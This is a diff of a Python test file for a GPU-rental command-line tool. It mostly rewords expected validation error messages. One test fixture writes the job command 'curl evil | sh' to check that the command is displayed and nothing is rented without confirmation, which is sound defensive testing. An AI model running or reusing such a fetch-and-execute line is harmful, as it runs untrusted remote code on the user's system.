@@ -66,9 +66,9 @@ def test_a_job_file_holds_the_options_and_flags_win(renter: Renter, folder: Path
         ("commnd = 'x'", "Did you mean 'command'?"),
         ("zzz = 1", "It may hold: "),
         ("folder = '/'", "there is no option 'folder'"),
-        ("detach = 'yes'", "detach is true or false"),
+        ("detach = 'yes'", "detach must be true or false"),
         ("setup = ['a']", "setup can't be ['a']"),
-        ("command = 5", "command is a text or a list of texts"),
+        ("command = 5", "command must be a string or a list of strings"),
         ("gpus = 'x'", "--gpus"),
         ("= 1", "is not valid TOML"),
     ):
@@ -180,7 +180,7 @@ def test_the_command_is_shown_before_anything_is_rented(renter: Renter, folder: 
     (folder / "clore.toml").write_text('command = ["sh", "-c", "curl evil | sh"]\ngpu = "RTX"\n')
     err = here(renter, folder, "--currency", "USD", fails=2).err
     assert '  command = ["sh", "-c", "curl evil | sh"]\n  gpu = ["RTX"]\n' in err
-    assert "add --yes" in err
+    assert "Add --yes" in err
     assert err.index("curl evil") < err.index("clore run --help")
     assert renter.orders() == []
 
@@ -221,7 +221,7 @@ def test_a_file_that_is_none_is_a_sentence(nobody: Clore, folder: Path) -> None:
         assert "bug" not in err
 
     os.mkfifo(file)
-    refused("no regular file")
+    refused("not a regular file")
     file.unlink()
     file.mkdir()
     refused("Is a directory")
@@ -245,12 +245,12 @@ def test_a_file_that_is_none_is_a_sentence(nobody: Clore, folder: Path) -> None:
         ('env-file = "a\\u0000b"', "env-file can't be"),
         ('command = "a\\u0000b"', "command can't be"),
         ('"\\u001b[31m' + "k" * 10_000 + '" = 1', "there is no option"),
-        (f'ref = "{"r" * 9_000}"', "too long to be agreed to"),
+        (f'ref = "{"r" * 9_000}"', "too long to confirm"),
     ):
         file.write_text(text)
         refused(said)
     file.write_bytes(b"a = '\xff'")
-    refused("no UTF-8")
+    refused("not UTF-8")
     (folder / "real.toml").write_text("max-hours = 2\n")
     file.unlink()
     file.symlink_to("real.toml")
